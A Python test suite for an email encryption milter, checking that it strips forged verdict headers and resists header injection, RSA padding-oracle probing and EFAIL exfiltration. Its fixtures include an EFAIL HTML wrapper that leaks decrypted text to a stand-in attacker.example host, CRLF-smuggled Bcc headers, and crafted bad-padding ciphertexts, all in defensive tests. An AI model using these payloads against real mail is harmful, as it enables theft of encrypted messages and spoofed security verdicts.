"""Hostile senders: forged result headers, hostile decrypted headers, padding oracles, EFAIL, secrets on disk.

Every encrypted message here is made by the real tools (``openssl cms``,
``gpg``) for the corpus keys of bob; where a test needs a broken one, the
tool's output is changed by byte surgery on the parsed structure.
"""

from __future__ import annotations

import base64
import os
import re
import stat
import subprocess
from pathlib import Path

import pgpy
import pytest
from asn1crypto import cms as asn1_cms
from asn1crypto import x509 as asn1_x509
from click.testing import CliRunner
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding as asym_padding
from cryptography.hazmat.primitives.asymmetric import rsa

from ciphermilter import mime

from ciphermilter.core import pipeline as core
from ciphermilter.cli.main import main
from ciphermilter.core.settings import Settings
from ciphermilter.core.info import INFO_PREFIX, is_reserved
from ciphermilter.daemon.milter import MessageState
from ciphermilter.core.plan import apply_plan
from ciphermilter.store.keystore import KeyStore
from ciphermilter.store import admin
from conftest import BOB, case_message, corpus_cases
from support.to_bob import (BOB_CERT, KEYS, OUTER, PGP_BOB, PGP_BOB_UID, pgp_encrypt, pgp_mime_part, smime_encrypt,
                            smime_part)

BOB_KEY = KEYS / "smime" / "pub-bob.key.pem"
ZED_CERT = KEYS / "foreign" / "pub-zed-foreign.cert.pem"
SECRET = b"launch code 0451 for EFAIL"
FIELD_NAME = re.compile(rb"[!-9;-~]+\Z")  # RFC 5322 section 3.6.8


# ---------------------------------------------------------------------------- building messages


def encrypted_message(kind: str, content: bytes, gpg_home: Path) -> bytes:
    """A whole message whose only content is ``content`` encrypted to bob (S/MIME or PGP/MIME)."""
    if kind == "smime":
        return OUTER + b"MIME-Version: 1.0\r\n" + smime_part(smime_encrypt(content))
    return OUTER + b"MIME-Version: 1.0\r\n" + pgp_mime_part(pgp_encrypt(gpg_home, content))


# bob reads his S/MIME key, bob.pgp his OpenPGP key: each message goes to the reader of the key it names.
ENVELOPES = {"smime": BOB, "pgp": core.Envelope(recipients=[PGP_BOB_UID])}


def run(message: bytes, store, settings: Settings | None = None, envelope: core.Envelope = BOB):
    outcome = core.process(message, envelope, store, settings)
    return outcome, apply_plan(message, outcome.plan)


def header_block(message: bytes) -> bytes:
    return message[:mime.split_headers(message)[1]]


def headers_named(message: bytes, name: str) -> list[str]:
    return [h.value for h in mime.split_headers(message)[0] if h.name.lower() == name.lower()]


def assert_clean_headers(out: bytes, outcome) -> None:
    """The output's header block is well formed and holds no reserved header but the ones we added."""
    block = header_block(out)
    assert re.search(rb"\r(?!\n)|(?<!\r)\n|\x00", block) is None, "bare CR, bare LF or NUL in the header block"
    assert all(len(line) <= 998 for line in block.split(b"\r\n"))
    headers = mime.split_headers(out)[0]
    assert all(FIELD_NAME.match(h.raw.partition(b":")[0]) for h in headers)
    reserved = [(h.name, h.value) for h in headers if is_reserved(h.name)]
    assert reserved == [(name, value.replace("\n", "").strip()) for name, value in outcome.info]


# ---------------------------------------------------------------------------- forged headers

# (id, header field as a sender may write it): every spelling a reader could take for one of ours.
FORGED = [
    ("exact", b"X-CipherMail-Info-SMIME-Signed: True"),
    ("lower", b"x-ciphermail-info-smime-encrypted: True"),
    ("upper", b"X-CIPHERMAIL-INFO-SIGNER-VERIFIED-0-0: True"),
    ("mixed", b"x-CipherMAIL-Info-PGP-Signature-Valid: True"),
    ("folded", b"X-CipherMail-Info-Signer-Email-0-0:\r\n bob@corp-pub.example,\r\n\tceo@corp-pub.example"),
    ("encoded-word", b"X-CipherMail-Info-Signer-Trusted-0-0: =?utf-8?B?VHJ1ZQ==?="),
    ("encoded-word-q", b"X-CipherMail-Info-PGP-Signed: =?us-ascii?Q?True?="),
    ("space-before-colon", b"X-CipherMail-Info-SMIME-Signed : True"),
    ("tab-before-colon", b"X-CipherMail-Info-SMIME-Signed\t: True"),
    ("empty-value", b"X-CipherMail-Info-Signer-Mismatch:"),
    ("other-name", b"X-CipherMail-Verdict: clean"),
    ("djigzo", b"X-Djigzo-Info-Signer-Verified-0-0: True"),
    ("space-in-name", b"X-CipherMail-Info-Signer Verified: True"),
    ("eight-bit-name", b"X-CipherMail-Info-\xc3\xa9: True"),
    ("long-name", b"X-CipherMail-Info-" + b"A" * 300 + b": True"),
    ("bare-cr-in-name", b"X-CipherMail-Info-A\rB: True"),
]


def with_forged(message: bytes, fields: list[bytes], *, top: bool, bottom: bool) -> bytes:
    """``message`` with ``fields`` (each CRLF-terminated) at the top and/or the bottom of its header block."""
    headers, body_offset = mime.split_headers(message)
    block = b"".join(h.raw + b"\r\n" for h in headers)
    forged = b"".join(f + b"\r\n" for f in fields)
    return (forged if top else b"") + block + (forged if bottom else b"") + message[body_offset:]


PLAIN = OUTER + b"Content-Type: text/plain\r\n\r\nhello\r\n"


@pytest.mark.parametrize("position", ["top", "bottom", "both"])
@pytest.mark.parametrize("field", [f for _, f in FORGED], ids=[i for i, _ in FORGED])
def test_forged_header_is_removed_in_every_spelling(corpus_store, field, position):
    """Once, twice (top and bottom) and duplicated in place: every copy goes, nothing else changes."""
    fields = [field, field]  # a duplicate right after it
    message = with_forged(PLAIN, fields, top=position != "bottom", bottom=position != "top")
    outcome, out = run(message, corpus_store)
    assert outcome.error is None
    assert out == PLAIN


CASES = corpus_cases()


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_forged_headers_never_survive_a_corpus_message(corpus_store, case):
    """All spellings at the top and the bottom of every corpus message: only our own reserved headers remain."""
    original = case_message(case)
    message = with_forged(original, [f for _, f in FORGED], top=True, bottom=True)
    outcome, out = run(message, corpus_store)
    clean, _ = run(original, corpus_store)
    assert outcome.error is None
    assert outcome.info.items == clean.info.items  # the forgeries changed no verdict
    assert_clean_headers(out, outcome)
    assert out == apply_plan(original, clean.plan)


# ---------------------------------------------------------------------------- hostile decrypted headers

PROTECTED = b'Content-Type: text/plain; charset=us-ascii; protected-headers="v1"\r\n'
BODY = b"\r\nsecret body\r\n"
# (id, decrypted entity, Subject expected in the output, whether the message is decrypted)
HOSTILE = [
    ("protected-subject-bare-cr", PROTECTED + b"Subject: fine\rBcc: evil@attacker.example\r\n" + BODY,
     "outer subject", True),
    ("protected-subject-bare-lf", PROTECTED + b"Subject: fine\nBcc: evil@attacker.example\n" + BODY, "fine", True),
    ("protected-subject-nul", PROTECTED + b"Subject: fi\x00ne\r\n" + BODY, "outer subject", True),
    ("protected-subject-oversize-line", PROTECTED + b"Subject: " + b"A" * 1200 + b"\r\n" + BODY,
     "outer subject", True),
    ("protected-subject-encoded-crlf",
     PROTECTED + b"Subject: =?utf-8?B?" + base64.b64encode(b"x\r\nBcc: evil@attacker.example") + b"?=\r\n" + BODY,
     "=?utf-8?B?" + base64.b64encode(b"x\r\nBcc: evil@attacker.example").decode() + "?=", True),
    ("protected-reserved-headers", PROTECTED + b"X-CipherMail-Info-SMIME-Signed: True\r\n"
     b"X-CipherMail-Info-Signer-Verified-0-0: True\r\nx-ciphermail-info-pgp-signature-valid: True\r\n"
     b"Subject: fine\r\n" + BODY, "fine", True),
    ("protected-bad-names", PROTECTED + b"Sub\x01ject: one\r\nSub ject: two\r\nSubject\x7f: three\r\n"
     b"\xc3\xa9: four\r\n" + BODY, "outer subject", True),
    ("protected-identity-headers", PROTECTED + b"From: ceo@corp-pub.example\r\nBcc: evil@attacker.example\r\n"
     b"Return-Path: <evil@attacker.example>\r\n" + BODY, "outer subject", True),
    ("inner-mime-reserved-and-bcc", b"Content-Type: text/plain\r\nX-CipherMail-Info-SMIME-Signed: True\r\n"
     b"Bcc: evil@attacker.example\r\nSubject: inner\r\n" + BODY, "outer subject", True),
    ("content-type-bare-cr", b"Content-Type: text/plain\rBcc: evil@attacker.example\r\n" + BODY,
     "outer subject", False),
    ("content-type-oversize-line", b'Content-Type: text/plain; x="' + b"A" * 1200 + b'"\r\n' + BODY,
     "outer subject", False),
]


@pytest.mark.parametrize("kind", ["smime", "pgp"])
@pytest.mark.parametrize("entity, subject, decrypted", [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_headers_out_of_decrypted_content_are_validated(corpus_store, gpg_home, kind, entity, subject, decrypted):
    message = encrypted_message(kind, entity, gpg_home)
    outcome, out = run(message, corpus_store, envelope=ENVELOPES[kind])
    assert outcome.error is None
    assert_clean_headers(out, outcome)
    assert headers_named(out, "Subject") == [subject]
    assert headers_named(out, "From") == ["alice@sender-pub.example"]
    assert headers_named(out, "Bcc") == [] and headers_named(out, "Return-Path") == []
    info = outcome.info.as_dict()
    if decrypted:
        assert out.endswith(b"secret body\r\n") and "Not-Processed" not in str(info)
    else:
        assert out == apply_plan(message, outcome.plan) and outcome.plan.body is None
        assert INFO_PREFIX + "Not-Processed" in info
        assert info[INFO_PREFIX + "Not-Processed"].startswith("decrypted content has an invalid")


# A decrypted multipart whose every header block carries fields in our namespaces, as a sender forges them:
# the top entity's, a nested multipart's and the leaves' (folded, other case, the former namespace, last field).
FORGED_IN_PARTS = (
    b'Content-Type: multipart/mixed; boundary="outer"\r\nX-CipherMail-Info-SMIME-Signed: True\r\n\r\n'
    b"--outer\r\nX-CipherMail-Info-Signer-Verified-0-0: True\r\nContent-Type: text/plain\r\n\r\nfirst\r\n"
    b'--outer\r\nContent-Type: multipart/alternative; boundary="inner"\r\n'
    b"x-ciphermail-info-pgp-signature-valid:\r\n True\r\n\r\n"
    b"--inner\r\nContent-Type: text/plain\r\nX-Djigzo-Info-Signer-Trusted-0-0: True\r\n"
    b"X-Other: kept\r\n\r\nsecond\r\n"
    b"--inner\r\nContent-Type: text/html\r\nX-CIPHERMAIL-INFO-SIGNER-EMAIL-0-0: ceo@corp-pub.example\r\n\r\n"
    b"<p>third</p>\r\n"
    b"--inner--\r\n--outer--\r\n"
)
# The same content as it must arrive: every such field gone with its line break, every other byte kept.
CLEANED_BODY = (
    b"--outer\r\nContent-Type: text/plain\r\n\r\nfirst\r\n"
    b'--outer\r\nContent-Type: multipart/alternative; boundary="inner"\r\n\r\n'
    b"--inner\r\nContent-Type: text/plain\r\nX-Other: kept\r\n\r\nsecond\r\n"
    b"--inner\r\nContent-Type: text/html\r\n\r\n<p>third</p>\r\n"
    b"--inner--\r\n--outer--\r\n"
)


@pytest.mark.parametrize("kind", ["smime", "pgp"])
def test_forged_fields_in_decrypted_part_headers_are_removed(corpus_store, gpg_home, kind):
    message = encrypted_message(kind, FORGED_IN_PARTS, gpg_home)
    outcome, out = run(message, corpus_store)
    assert outcome.error is None
    assert_clean_headers(out, outcome)
    assert out.partition(b"\r\n\r\n")[2] == CLEANED_BODY
    assert headers_named(out, "Content-Type") == ['multipart/mixed; boundary="outer"']


# ---------------------------------------------------------------------------- padding oracle


def _bob_public_numbers():
    return x509.load_pem_x509_certificate(BOB_CERT.read_bytes()).public_key().public_numbers()


def _raw_rsa(block: bytes) -> bytes:
    """Textbook RSA of ``block`` with bob's public key: lets a test choose the padding the key holder will see."""
    numbers = _bob_public_numbers()
    size = (numbers.n.bit_length() + 7) // 8
    return pow(int.from_bytes(block, "big"), numbers.e, numbers.n).to_bytes(size, "big")


def _pkcs1(cek: bytes) -> bytes:
    public_key = x509.load_pem_x509_certificate(BOB_CERT.read_bytes()).public_key()
    return public_key.encrypt(cek, asym_padding.PKCS1v15())


def _with_encrypted_key(der: bytes, encrypted_key: bytes | None = None, rid_from: Path | None = None) -> bytes:
    """Byte surgery: replace the first KeyTransRecipientInfo's encryptedKey and/or its rid (issuer and serial)."""
    info = asn1_cms.ContentInfo.load(der)
    recipient = info["content"]["recipient_infos"][0].chosen
    if encrypted_key is not None:
        recipient["encrypted_key"] = encrypted_key
    if rid_from is not None:
        cert = asn1_x509.Certificate.load(x509.load_pem_x509_certificate(rid_from.read_bytes()).public_bytes(
            serialization.Encoding.DER))
        recipient["rid"] = asn1_cms.RecipientIdentifier(
            name="issuer_and_serial_number",
            value={"issuer": cert.issuer, "serial_number": cert.serial_number})
    return info.dump(force=True)


def _padding_variants() -> tuple[bytes, list[tuple[str, bytes]]]:
    """AuthEnvelopedData for bob, and (id, the same) whose RSA layer goes wrong in different ways.

    The content is AES-GCM so that every wrong content key fails for sure; with
    CBC one wrong key in about 256 unpads by chance into garbage, whatever the
    RSA layer did, which would make this test flaky without telling anything
    about the RSA padding.
    """
    content = b"Content-Type: text/plain\r\n\r\nnever shown\r\n"
    size = (_bob_public_numbers().n.bit_length() + 7) // 8
    good = smime_encrypt(content, cipher="-aes-256-gcm")
    return good, [
        ("no-zero-separator", _with_encrypted_key(good, _raw_rsa(b"\x00\x02" + b"\x11" * (size - 2)))),
        ("block-type-1", _with_encrypted_key(good, _raw_rsa(b"\x00\x01" + b"\xff" * (size - 35) + b"\x00" + b"k" * 32))),
        ("leading-byte-not-zero", _with_encrypted_key(good, _raw_rsa(b"\x01\x02" + b"\x22" * (size - 35) + b"\x00"
                                                                     + b"k" * 32))),
        ("short-padding-string", _with_encrypted_key(good, _raw_rsa(b"\x00\x02" + b"\x33" * 4 + b"\x00"
                                                                    + b"k" * (size - 7)))),
        ("wrong-key-length", _with_encrypted_key(good, _pkcs1(b"k" * 16))),
        ("wrong-key-right-length", _with_encrypted_key(good, _pkcs1(bytes(range(32))))),
        ("made-for-another-key", _with_encrypted_key(smime_encrypt(content, ZED_CERT, "-aes-256-gcm"),
                                                     rid_from=BOB_CERT)),
    ]


def test_bad_padding_and_a_wrong_key_look_the_same(corpus_store):
    """Bleichenbacher (RFC 3218): whatever breaks in the RSA layer, the sender sees one and the same result."""
    good, variants = _padding_variants()
    assert run(OUTER + smime_part(good), corpus_store)[1].endswith(b"never shown\r\n")  # only the surgery breaks it
    results = []
    for variant, der in variants:
        message = OUTER + b"MIME-Version: 1.0\r\n" + smime_part(der)
        outcome, out = run(message, corpus_store)
        assert outcome.error is None, variant
        assert out == apply_plan(message, outcome.plan) and outcome.plan.body is None, variant
        layer = outcome.report["smime"]["layers"][0]
        results.append((variant, outcome.info.items, layer["reason"], outcome.plan.changes, outcome.plan.deletions))
    first = results[0][1:]
    assert dict(first[0])[INFO_PREFIX + "SMIME-Decryption-Failed-0"] == "decryption failed"
    for variant, *rest in results:
        assert tuple(rest) == first, variant


def test_a_content_key_of_another_size_than_the_cipher_is_refused(corpus_store):
    """AES-128 data labelled AES-256-CBC must not decrypt: the header would report a cipher that was not used."""
    der = smime_encrypt(b"Content-Type: text/plain\r\n\r\nweak\r\n", cipher="-aes128")
    info = asn1_cms.ContentInfo.load(der)
    info["content"]["encrypted_content_info"]["content_encryption_algorithm"]["algorithm"] = "2.16.840.1.101.3.4.1.42"
    message = OUTER + smime_part(info.dump(force=True))
    outcome, out = run(message, corpus_store)
    assert outcome.plan.body is None and b"weak" not in out
    assert outcome.info.as_dict()[INFO_PREFIX + "SMIME-Decryption-Failed-0"] == "decryption failed"
    assert run(OUTER + smime_part(der), corpus_store)[1].endswith(b"weak\r\n")  # unlabelled, it decrypts


def _first_packet(data: bytes) -> tuple[bytes, int]:
    """The body of the first OpenPGP packet of ``data`` and where it ends (gpg writes the PKESK first)."""
    if data[0] & 0x40:  # new format: one- or two-octet length is all a PKESK needs
        first = data[1]
        start, length = (2, first) if first < 192 else (3, ((first - 192) << 8) + data[2] + 192)
    else:
        size = 1 << (data[0] & 0x03)
        start, length = 1 + size, int.from_bytes(data[1:1 + size], "big")
    return data[start:start + length], start + length


def _rsa_pkesk(keyid: bytes, ciphertext: int) -> bytes:
    """A version 3 RSA PKESK packet (RFC 4880 section 5.1) with a new-format header."""
    body = b"\x03" + keyid + b"\x01" + ciphertext.bit_length().to_bytes(2, "big") + ciphertext.to_bytes(
        (ciphertext.bit_length() + 7) // 8, "big")
    assert 192 <= len(body) < 8384
    return b"\xc1" + bytes([((len(body) - 192) >> 8) + 192, (len(body) - 192) & 0xFF]) + body


def _session_block(key: bytes, algorithm: int = 9) -> bytes:
    """``algorithm || key || checksum`` (RFC 4880 section 5.1); 9 is AES-256."""
    return bytes([algorithm]) + key + (sum(key) & 0xFFFF).to_bytes(2, "big")


def _pgp_padding_variants(gpg_home: Path) -> tuple[bytes, list[tuple[str, bytes]]]:
    """A binary OpenPGP message for bob, and (id, the same) whose RSA session key layer goes wrong in different ways."""
    message = subprocess.run(["gpg", "--homedir", str(gpg_home), "--batch", "--trust-model", "always",
                              "--recipient", PGP_BOB_UID, "--encrypt"], input=b"never shown\n",
                             check=True, capture_output=True).stdout
    pkesk, end = _first_packet(message)
    keyid = pkesk[1:9]
    key, _ = pgpy.PGPKey.from_file(str(PGP_BOB))
    (material,) = [sub._key.keymaterial for sub in key.subkeys.values() if sub.fingerprint.keyid == keyid.hex().upper()]
    n, e = int(material.n), int(material.e)
    size = (n.bit_length() + 7) // 8
    public_key = rsa.RSAPublicNumbers(e, n).public_key()

    def raw(block: bytes) -> bytes:  # textbook RSA: the test chooses the padding bob's key will find
        return _rsa_pkesk(keyid, pow(int.from_bytes(block, "big"), e, n)) + message[end:]

    def padded(block: bytes) -> bytes:
        return _rsa_pkesk(keyid, int.from_bytes(public_key.encrypt(block, asym_padding.PKCS1v15()), "big")) + message[end:]

    wrong_key = bytes(range(32))
    return message, [
        ("no-zero-separator", raw(b"\x00\x02" + b"\x11" * (size - 2))),
        ("block-type-1", raw(b"\x00\x01" + b"\xff" * (size - 38) + b"\x00" + _session_block(wrong_key))),
        ("bad-checksum", padded(_session_block(wrong_key)[:-1] + b"\x00")),
        ("unknown-cipher", padded(_session_block(wrong_key, algorithm=99))),
        ("short-key", padded(_session_block(wrong_key[:16]))),
        ("wrong-session-key", padded(_session_block(wrong_key))),
    ]


def test_openpgp_bad_padding_and_a_wrong_session_key_look_the_same(corpus_store, gpg_home):
    def as_message(data: bytes) -> bytes:
        encoded = b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).replace(b"\n", b"\r\n")
        return OUTER + b"MIME-Version: 1.0\r\n" + pgp_mime_part(b"").replace(
            b'name="encrypted.asc"\r\n\r\n', b'name="encrypted.pgp"\r\n' + encoded)

    good, variants = _pgp_padding_variants(gpg_home)
    assert b"never shown" in run(as_message(good), corpus_store, envelope=ENVELOPES["pgp"])[1]  # only the surgery
    results = []
    for variant, data in variants:
        message = as_message(data)
        outcome, out = run(message, corpus_store, envelope=ENVELOPES["pgp"])
        assert outcome.error is None, variant
        assert out == apply_plan(message, outcome.plan) and outcome.plan.body is None, variant
        failures = [block["failure"] for block in outcome.report["openpgp"]["blocks"]]
        results.append((variant, outcome.info.items, failures))
    first = results[0][1:]
    assert dict(first[0])[INFO_PREFIX + "PGP-Decryption-Failed"].replace("\n", "") == (
        "no key in the store decrypts the session key")
    for variant, *rest in results:
        assert tuple(rest) == first, variant


# ---------------------------------------------------------------------------- EFAIL

ATTACKER_BEFORE = b'Content-Type: text/html\r\n\r\n<html><body><img src="http://attacker.example/\r\n'
ATTACKER_AFTER = b'Content-Type: text/html\r\n\r\n">\r\n</body></html>\r\n'
PLAINTEXT_ENTITY = b"Content-Type: text/plain\r\n\r\n" + SECRET + b"\r\n"


def _efail_encrypted_parts(gpg_home: Path) -> list[tuple[str, bytes]]:
    """(id, encrypted part) for each shape the published direct exfiltration attacks used."""
    armored = pgp_encrypt(gpg_home, PLAINTEXT_ENTITY)
    return [
        ("smime", smime_part(smime_encrypt(PLAINTEXT_ENTITY))),
        ("pgp-mime", pgp_mime_part(armored)),
        ("pgp-attachment", b'Content-Type: application/octet-stream; name="msg.asc"\r\n\r\n' + armored),
        ("pgp-inline", b"Content-Type: text/plain\r\n\r\n" + pgp_encrypt(gpg_home, SECRET)),
    ]


def _efail_message(subtype: bytes, encrypted_part: bytes) -> bytes:
    return (OUTER + b"MIME-Version: 1.0\r\nContent-Type: multipart/" + subtype + b'; boundary="efail"\r\n\r\n'
            + b"--efail\r\n" + ATTACKER_BEFORE
            + b"--efail\r\n" + encrypted_part
            + b"\r\n--efail\r\n" + ATTACKER_AFTER
            + b"--efail--\r\n")


@pytest.mark.parametrize("subtype", [b"mixed", b"related"], ids=["mixed", "related"])
def test_efail_direct_exfiltration_never_gets_the_plaintext(corpus_store, gpg_home, subtype):
    for shape, part in _efail_encrypted_parts(gpg_home):
        message = _efail_message(subtype, part)
        envelope = ENVELOPES[shape.partition("-")[0]]
        outcome, out = run(message, corpus_store, envelope=envelope)
        assert outcome.error is None, shape
        assert not any(SECRET in text for text in _every_decoding(out)), shape
        assert b'<img src="http://attacker.example/' in out
        # the same message with EFAIL protection off does give the plaintext away: the test can fail
        _, unprotected = run(message, corpus_store, Settings(decrypt_embedded=True), envelope)
        assert any(SECRET in text for text in _every_decoding(unprotected)), shape


def _every_decoding(message: bytes) -> list[bytes]:
    """The message as it is, and the body of every entity in it decoded from its transfer encoding."""
    texts = [message]
    for entity in mime.parse(message).walk():
        texts.append(entity.decoded_body())
    return texts


# ---------------------------------------------------------------------------- secrets on disk


def _private_byte_strings() -> list[bytes]:
    """Big-endian private scalars of every corpus S/MIME key (what a cleartext key on disk would hold)."""
    secrets = []
    for path in sorted((KEYS / "smime").glob("*.key.pem")):
        numbers = serialization.load_pem_private_key(path.read_bytes(), None).private_numbers()
        for value in (getattr(numbers, name, None) for name in ("d", "p", "q", "private_value")):
            if value:
                secrets.append(value.to_bytes((value.bit_length() + 7) // 8, "big"))
    return secrets


def test_files_stay_0600_under_a_permissive_umask(tmp_path):
    """Store, WAL, master key, backup and exports are private even when the admin's umask is 000."""
    old = os.umask(0)
    try:
        path = tmp_path / "store.db"
        with KeyStore.create(path) as store:
            admin.import_file(store, BOB_CERT.read_bytes() + BOB_KEY.read_bytes(), filename="bob.pem")
            admin.backup(store, tmp_path / "backup.db")
            (bob,) = admin.list_keys(store)
        runner = CliRunner()
        for args in (["store", "export", str(tmp_path / "all.json"), "--password", "pw"],
                     ["keys", "export", bob["id"][:16], "--format", "p12", "--password", "pw",
                      "-o", str(tmp_path / "bob.p12")]):
            result = runner.invoke(main, ["--store", str(path), *args])
            assert result.exit_code == 0, result.output
    finally:
        os.umask(old)
    files = ["store.db", "store.db.key", "store.db-wal", "backup.db", "all.json", "bob.p12"]
    present = [name for name in files if (tmp_path / name).exists()]
    assert set(files) - set(present) <= {"store.db-wal"}  # the WAL goes away on a clean close
    for name in present:
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    secrets = [s for s in _private_byte_strings() if len(s) >= 16]
    for name in ("store.db", "backup.db", "all.json", "bob.p12"):
        data = (tmp_path / name).read_bytes()
        assert b"PRIVATE KEY" not in data, name
        assert not any(secret in data for secret in secrets), name


def test_spool_file_is_0600(tmp_path):
    """A body bigger than spool_memory goes to a temporary file that only the milter's user can read."""
    old = os.umask(0)
    try:
        state = MessageState(mail_from="a@sender-pub.example", spool_memory=16)
        state.open_spool()
        state.spool.write(SECRET * 4)
        state.spool.rollover()
        mode = stat.S_IMODE(os.fstat(state.spool.fileno()).st_mode)
    finally:
        os.umask(old)
        state.close()
    assert mode == 0o600
